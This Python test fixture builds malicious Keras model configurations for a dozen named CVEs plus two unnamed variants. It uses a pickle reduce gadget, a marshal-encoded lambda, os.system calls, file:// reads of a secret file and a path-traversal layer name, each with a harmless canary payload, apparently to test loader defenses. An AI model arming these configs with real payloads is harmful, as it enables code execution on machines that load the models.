"""Architectures that would execute something when Keras rebuilds them, each with a harmless payload."""

import base64
import marshal
import pickle
from collections.abc import Callable
from pathlib import Path
from typing import Any


class Payload:
    """Unpickled, it makes the canary."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.canary,)


def _layer(module: str, name: str, config: dict[str, Any], **more: Any) -> dict[str, Any]:
    held = {"module": module, "class_name": name, "config": config, "registered_name": None, **more}
    return {**held, "name": config.get("name", "evil"), "inbound_nodes": []}


def _function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def _lambda(canary: Path) -> dict[str, Any]:
    code = compile(f"lambda x: (__import__('pathlib').Path({str(canary)!r}).touch(), x)[1]", "x", "eval")
    packed = base64.b64encode(marshal.dumps(code.co_consts[0])).decode()
    function = {"class_name": "__lambda__", "config": {"code": packed, "defaults": None, "closure": None}}
    return _layer("keras.layers", "Lambda", {"name": "evil", "function": function, "output_shape": None})


def _calling(module: str, name: str, arguments: dict[str, Any], first: Any) -> dict[str, Any]:
    """A Lambda layer whose function is one of an installed module, called with what the file says."""
    config = {"name": "evil", "function": _function(module, name), "arguments": arguments}
    layer = _layer("keras.layers", "Lambda", config)
    layer["inbound_nodes"] = [{"args": [first], "kwargs": {}}]
    return layer


def _pickled(canary: Path) -> str:
    return base64.b64encode(pickle.dumps(Payload(canary))).decode()


CONFIGS: dict[str, Callable[[Path, Path], dict[str, Any]]] = {
    "CVE-2024-3660 code in a Lambda": lambda canary, secret: _lambda(canary),
    "CVE-2025-1550 any function by name": lambda canary, secret: _calling(
        "os", "system", {}, f"touch {canary}"
    ),
    "CVE-2025-8747 get_file as a gadget": lambda canary, secret: _calling(
        "keras.utils", "get_file", {"fname": str(canary)}, f"file://{secret}"
    ),
    "CVE-2025-9906 safe mode switched off": lambda canary, secret: {
        "module": "keras.src.config", "class_name": "enable_unsafe_deserialization", "config": {},
        "then": _lambda(canary),
    },
    "CVE-2025-49655 a pickled PyTorch module": lambda canary, secret: _layer(
        "keras.layers", "TorchModuleWrapper", {"name": "evil", "module": _pickled(canary)}
    ),
    "CVE-2025-12058 a vocabulary from a path": lambda canary, secret: _layer(
        "keras.layers", "StringLookup", {"name": "evil", "vocabulary": str(secret)}
    ),
    "CVE-2025-12638 an archive to extract": lambda canary, secret: _calling(
        "keras.utils", "get_file", {"origin": f"file://{secret}", "extract": True}, "x.tar"
    ),
    "CVE-2026-1462 a SavedModel elsewhere": lambda canary, secret: _layer(
        "keras.layers", "TFSMLayer", {"name": "evil", "filepath": str(secret.parent)}
    ),
    "CVE-2026-12481 a Lambda within a layer": lambda canary, secret: _layer(
        "keras.layers", "TimeDistributed", {"name": "evil", "layer": _lambda(canary)}
    ),
    "CVE-2026-12479 a name that leads out": lambda canary, secret: _layer(
        "keras.layers", "StringLookup", {"name": f"../../..{canary}", "vocabulary": ["a"]}
    ),
    "a registered name": lambda canary, secret: _layer(
        "builtins", "exec", {"name": "evil"}, registered_name="builtins>exec"
    ),
    "a loss by name": lambda canary, secret: {
        **_layer("keras", "Sequential", {"name": "evil", "layers": []}),
        "compile_config": {"loss": _function("os", "system"), "optimizer": "sgd"},
    },
}  # fmt: skip
"""Vulnerability → (canary, a file that is none of its business) → config.json's model."""
